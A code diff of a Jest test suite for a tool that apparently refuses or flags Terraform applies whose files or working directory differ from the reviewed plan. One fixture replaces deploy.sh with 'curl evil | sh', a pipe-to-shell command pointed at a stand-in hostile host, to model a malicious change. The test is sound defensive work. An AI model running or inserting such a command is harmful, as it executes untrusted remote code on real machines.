@@ -1,14 +1,21 @@
 import { expect, test } from '@jest/globals'
+import { execFileSync } from 'node:child_process'
+import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
 import { serveGithub } from '../../../packages/github-server/src/index.ts'
 import { serve } from '../../../packages/hcp-terraform-server/src/index.ts'
 import { onGithub } from '../on-github.ts'
 import { annotated, runStep } from '../on-a-runner.ts'
 import { change, planWith } from '../plans.ts'
 
-type Tree = Readonly<Record<string, string>>
-const FILES: Tree = { 'main.tf': 'resource "a" "a" {}\n', 'deploy.sh': 'echo reviewed\n' }
-const CHANGED: Tree = { ...FILES, 'deploy.sh': 'curl evil | sh\n' }
+type Files = Readonly<Record<string, string>>
+const FILES: Files = { 'main.tf': 'variable "note" {}\n', 'deploy.sh': 'echo reviewed\n', 'prod/main.tf': '' }
+const CHANGED: Files = { ...FILES, 'deploy.sh': 'curl evil | sh\n' }
 const BOTH = 'reviewed\nsame-files'
+const DIFFERENT =
+  "The files of the configuration, or the workspace's working directory, differ from those of the reviewed plan"
+const REVIEW = 'A plan does not show all that files decide, so review the changes of files'
 /** What a plan shows of a provisioner: the name that its command refers to. */
 const BLOCK = {
   address: 'a.a',
@@ -18,20 +25,65 @@ const PLAN = planWith([change('a.a', 'create', { input: 'x' })], {
   configuration: { root_module: { resources: [BLOCK] } }
 })
 
+/** A repository in which each call makes a commit, and checks it out. */
+function repository() {
+  const workspace = mkdtempSync(join(tmpdir(), 'checkout-'))
+  const git = (...args: string[]) =>
+    execFileSync('git', ['-C', workspace, '-c', 'user.name=A', '-c', 'user.email=a@example.com', ...args], {
+      encoding: 'utf8'
+    }).trim()
+  git('init', '--quiet')
+  mkdirSync(join(workspace, 'prod'))
+  const commit = (files: Files) => {
+    for (const [name, text] of Object.entries(files)) writeFileSync(join(workspace, name), text)
+    git('add', '.')
+    git('commit', '--quiet', '--allow-empty', '-m', 'Change')
+    return git('rev-parse', 'HEAD')
+  }
+  return { workspace, commit, [Symbol.dispose]: () => rmSync(workspace, { recursive: true }) }
+}
+
+interface Between {
+  readonly inputs?: Files
+  /** The workspace's working directory when the plan is applied. */
+  readonly workingDirectory?: string
+}
+
 /** `reviewed` and `applied`: the files of each step, or none where it plans a version that was uploaded before. */
-async function reviewThenApply(conditions: string, reviewed: Tree | undefined, applied: Tree | undefined) {
+async function reviewThenApply(
+  conditions: string,
+  reviewed: Files | undefined,
+  applied: Files | undefined,
+  { inputs, workingDirectory }: Between = {}
+) {
+  using checkout = repository()
   await using hcp = await serve({ script: PLAN })
   await using github = await serveGithub()
   const pull = github.addPullRequest({ number: 7 })
-  const upload = async (files: Tree) =>
-    (await runStep(hcp, { action: 'configuration/upload', files })).outputs['configuration-version-id']
-  const of = async (files: Tree | undefined, inputs: Readonly<Record<string, string>>) =>
-    files === undefined ? { inputs: { ...inputs, 'configuration-version-id': await upload(FILES) } } : { files, inputs }
-  await runStep(hcp, onGithub(github.trigger('pull_request', pull), await of(reviewed, {})))
+  const { workspace } = checkout
+  const of = async (files: Files | undefined, more: Files) => {
+    const commit = checkout.commit(files ?? FILES)
+    const own = { ...inputs, ...more }
+    if (files !== undefined) return { commit, workspace, inputs: own }
+    const uploaded = await runStep(hcp, { action: 'configuration/upload', workspace })
+    return {
+      commit,
+      workspace,
+      inputs: { ...own, 'configuration-version-id': uploaded.outputs['configuration-version-id'] }
+    }
+  }
+  const planning = await of(reviewed, {})
+  await runStep(hcp, onGithub(github.trigger('pull_request', pull), planning))
   github.merge(pull)
-  const inputs = { operation: 'apply', 'apply-only-if': conditions, 'pull-request-comment': 'never' }
-  const step = await runStep(hcp, onGithub(github.trigger('push', pull), await of(applied, inputs)))
-  return { step, commits: `https://github.com/example/infrastructure/compare/${pull.head.sha}..${pull.mergeCommitSha}` }
+  if (workingDirectory !== undefined) hcp.find().attributes['working-directory'] = workingDirectory
+  const applying = await of(applied, {
+    operation: 'apply',
+    'apply-only-if': conditions,
+    'pull-request-comment': 'never'
+  })
+  const step = await runStep(hcp, onGithub(github.trigger('push', pull), applying))
+  const commits = `https://github.com/example/infrastructure/compare/${planning.commit}..${applying.commit}`
+  return { step, difference: `${DIFFERENT}. See what changed between the commits that were checked out: ${commits}` }
 }
 
 test('where the files are the reviewed ones, only the log says what a plan does not show', async () => {
@@ -43,12 +95,21 @@ test('where the files are the reviewed ones, only the log says what a plan does 
 })
 
 test('where a file is another one, the commits to compare are named, whatever the plan shows of it', async () => {
-  const { step, commits } = await reviewThenApply('reviewed', FILES, CHANGED)
+  const { step, difference } = await reviewThenApply('reviewed', FILES, CHANGED)
   expect(step.outputs['run-status']).toBe('applied')
   const [notice = '', ...others] = annotated(step, 'notice')
   expect(others).toEqual([])
-  expect(notice).toContain(`differ from those of the reviewed plan. See what changed between the commits: ${commits}. `)
+  expect(notice).toContain(`${difference}. ${REVIEW}. `)
   expect(notice).toContain('provisioner "local-exec"')
+})
+
+test('where the author of the configuration made the words of the notice a secret, the apply is refused', async () => {
+  const words = `reviewed plan. See what changed`
+  const inputs = { variables: `note = "${words}"`, 'sensitive-run-variables': 'note' }
+  const { step } = await reviewThenApply('reviewed', FILES, CHANGED, { inputs })
+  expect(step.outputs['run-status']).toBe('discarded')
+  expect(annotated(step, 'error')[0]).toContain('is equal to words of the notice')
+  expect(annotated(step, 'notice')).toEqual([])
 })
 
 test.each([
@@ -64,10 +125,11 @@ test.each([
   }
 )
 
-test('`same-files` refuses an apply of other files', async () => {
-  const { step, commits } = await reviewThenApply(BOTH, FILES, CHANGED)
+test.each<[string, Files, Between]>([
+  ['other files', CHANGED, {}],
+  ['another working directory of the same files', FILES, { workingDirectory: 'prod' }]
+])('`same-files` refuses an apply of %s', async (_name, applied, between) => {
+  const { step, difference } = await reviewThenApply(BOTH, FILES, applied, between)
   expect(step.outputs['run-status']).toBe('discarded')
-  expect(annotated(step, 'error')[0]).toContain(
-    `The files of the configuration differ from those of the reviewed plan. See what changed between the commits: ${commits}`
-  )
+  expect(annotated(step, 'error')[0]).toContain(difference)
 })
